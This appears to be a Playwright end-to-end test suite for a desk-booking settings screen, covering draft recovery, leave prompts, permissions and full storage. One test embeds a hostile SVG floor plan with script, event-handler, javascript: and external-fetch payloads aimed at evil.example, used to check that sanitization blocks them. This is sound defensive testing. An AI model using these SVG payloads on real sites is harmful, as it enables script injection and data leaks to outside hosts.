import { distB } from "../kit/backend.ts";
import { expect, test } from "../kit/fixtures.ts";
import { draftsKept } from "../kit/stored.ts";
import { deskTitle, gridPlan } from "../kit/tenant.ts";
import { DeskSettingsPage } from "../pages/desk-settings.ts";

test("[F15] [E2E-D01] unsaved edits are offered again after a reload, a kill and a new version; Discard forgets them", async ({
  app,
  device,
  signedIn,
}) => {
  test.slow();
  const page = await signedIn("settings");
  let screen = await DeskSettingsPage.open(page, device.origin);
  await screen.select(deskTitle(0), deskTitle(1));
  await screen.disable("being painted");
  await expect(screen.changes.getByText("2 unsaved changes")).toBeVisible();
  await expect.poll(() => draftsKept(page)).toBe(1);
  await device.kill();
  screen = await DeskSettingsPage.open(await device.open(), device.origin);
  await screen.recover();
  await expect(screen.changes.getByText("2 unsaved changes")).toBeVisible();
  app.setDist(distB());
  await screen.page.evaluate(async () => (await navigator.serviceWorker.getRegistration())?.update());
  await Promise.all([
    screen.page.waitForEvent("load", { timeout: 60_000 }),
    screen.page.getByRole("button", { name: "Reload" }).click(),
  ]);
  await screen.recover();
  await expect(screen.changes.getByText("2 unsaved changes")).toBeVisible({ timeout: 40_000 });
  await expect(screen.row(deskTitle(0))).toHaveAccessibleName(/being painted/);
  await screen.changes.getByRole("button", { name: "Discard", exact: true }).click();
  await screen.page
    .getByRole("alertdialog")
    .or(screen.page.getByRole("dialog"))
    .getByRole("button", { name: "Discard", exact: true })
    .click();
  await expect(screen.changes.getByText("No unsaved changes")).toBeVisible();
  await expect(screen.row(deskTitle(0))).toHaveAccessibleName(/Bookable/);
  await expect.poll(() => draftsKept(screen.page)).toBe(0);
});

test("[E2E-D02] leaving with unsaved changes asks in the specification's words; No stays, Leave discards @long", async ({
  device,
  signedIn,
}) => {
  const page = await signedIn("settings");
  const screen = await DeskSettingsPage.open(page, device.origin);
  await screen.select(deskTitle(0));
  await page
    .getByRole("switch", { name: "Bookable" })
    .or(page.getByLabel("Bookable", { exact: true }))
    .first()
    .click({ force: true });
  await page.getByRole("link", { name: "Sync", exact: true }).click();
  const question =
    "You currently have 1 unsaved change(s). Are you sure you want to leave this page? Leaving this page will discard all current changes";
  await expect(page.getByText(question)).toBeVisible();
  await page.getByRole("button", { name: "No", exact: true }).click();
  await expect(page).toHaveURL(/desk-booking\/desks/);
  await page.getByRole("link", { name: "Sync", exact: true }).click();
  await page.getByRole("button", { name: "Leave", exact: true }).click();
  await expect(page).toHaveURL(/\/sync$/);
  const again = await DeskSettingsPage.open(page, device.origin);
  await expect(again.changes.getByText("No unsaved changes")).toBeVisible();
});

test("[E2E-D03] without the right the screen says so and edits nothing @long", async ({ device, signedIn }) => {
  const page = await signedIn("data");
  await page.goto(`${device.origin}/desk-booking/desks`);
  await expect(
    page.getByText(/You don't have permission to edit desk settings|You do not have access to this page/),
  ).toBeVisible();
  await expect(page.getByRole("button", { name: "Save", exact: true })).toHaveCount(0);
});

test.describe("a hostile drawing", () => {
  const { plan } = gridPlan([]);
  const evil = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 400 300" onload="window.pwned=1">
    <script>window.pwned=1;fetch("http://evil.example/a")</script>
    <style>@import url(http://evil.example/b.css); .x{fill:url(http://evil.example/c.svg#p)}</style>
    <image href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAgAAAAICAIAAAAAAAAA" width="10" height="10"/>
    <image href="http://evil.example/d.png" width="10" height="10"/><use xlink:href="http://evil.example/e.svg#x"/>
    <foreignObject width="10" height="10"><img xmlns="http://www.w3.org/1999/xhtml" src="x" onerror="window.pwned=1"/></foreignObject>
    <a href="javascript:window.pwned=1"><rect width="5" height="5"/></a><set attributeName="onmouseover" to="window.pwned=1"/>
    <g id="bookable_one"><rect class="x" x="20" y="20" width="60" height="40" onclick="window.pwned=1"/></g></svg>`;
  test.use({ shape: { desks: 3, plan, bookables: evil } });

  test("[E2E-D04] nothing runs, nothing leaves the origin, and the screen says what is wrong with the plan", async ({
    device,
    signedIn,
  }) => {
    const page = await signedIn("settings");
    const foreign: string[] = [];
    device.context.on("request", (r) => {
      if (!r.url().startsWith(device.origin) && !r.url().startsWith("blob:") && !r.url().startsWith("data:"))
        foreign.push(r.url());
    });
    const screen = await DeskSettingsPage.open(page, device.origin);
    const problems = page.getByText(/Problems? with this floor plan/).first();
    await problems.click();
    await expect(page.getByText(/^Links to other files and addresses were removed/)).toBeVisible();
    await expect(page.getByText("Pictures in the plan that this browser cannot read: 1.")).toBeVisible();
    await expect(screen.row(deskTitle(0))).toBeVisible();
    expect(foreign).toEqual([]);
    expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
  });
});

test("[F20] [E2E-D05] storage that is full: the edit is refused visibly and stays in the form", async ({
  device,
  signedIn,
}) => {
  test.slow();
  await signedIn("settings");
  await device.quit(); // the browser measures the space that is left at a start
  const page = await device.open();
  const devtools = await device.context.newCDPSession(page);
  await devtools.send("Storage.overrideQuotaForOrigin", { origin: device.origin, quotaSize: 1 });
  const screen = await DeskSettingsPage.open(page, device.origin);
  await screen.select(deskTitle(0), deskTitle(1));
  await screen.disable("x".repeat(100));
  await screen.save();
  await expect(screen.changes.getByText(/storage is full/)).toBeVisible({ timeout: 40_000 });
  await expect(screen.changes.getByText("2 unsaved changes")).toBeVisible();
  await expect(screen.row(deskTitle(0))).toHaveAccessibleName(/x{100}/);
  await expect(page.getByRole("link", { name: /Saved on this device: / })).toHaveCount(0);
});
